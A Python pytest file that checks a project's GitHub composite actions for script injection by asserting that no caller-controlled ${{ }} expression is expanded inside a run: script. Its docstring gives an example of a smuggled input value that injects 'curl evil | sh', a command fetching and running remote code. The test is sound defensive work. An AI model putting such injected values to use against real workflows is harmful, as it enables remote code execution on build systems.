"""No expression a caller controls is pasted into a CI script: the GitHub composite actions
(ci/github/*/action.yml) pass every input to their scripts through ``env:``, so an input such as
``impl: 'x"; curl evil | sh; "'`` reaches ``persyk-ci.sh`` as the value of a variable, never as
shell text. (GitHub expands ``${{ … }}`` inside ``run:`` before the shell reads it: a script
injection.) A ``run:`` script may name only ``github.action_path``, the runner's own path.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from _paths import CHECKOUT

yaml = pytest.importorskip("yaml", reason="the recipe tests parse YAML (pyyaml, a test extra)")

ACTIONS = sorted((CHECKOUT / "ci" / "github").glob("*/action.yml"))
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
# What a run: script may expand: the action's own folder, set by the runner, not by a caller.
ALLOWED_IN_RUN = frozenset({"github.action_path"})


def _run_scripts(action: Path) -> list[tuple[str, str]]:
    spec: dict[str, Any] = yaml.safe_load(action.read_text("utf-8"))
    return [(str(step.get("name", index)), str(step["run"]))
            for index, step in enumerate(spec["runs"]["steps"]) if "run" in step]


def test_the_github_actions_are_found() -> None:
    assert {action.parent.name for action in ACTIONS} >= {"run", "merge", "gate"}
    assert all(_run_scripts(action) for action in ACTIONS)


@pytest.mark.parametrize("action", ACTIONS, ids=[a.parent.name for a in ACTIONS])
def test_no_input_is_expanded_inside_a_run_script(action: Path) -> None:
    for step, script in _run_scripts(action):
        pasted = set(EXPRESSION.findall(script)) - ALLOWED_IN_RUN
        assert not pasted, f"{action.parent.name}: step {step!r} pastes {sorted(pasted)}"

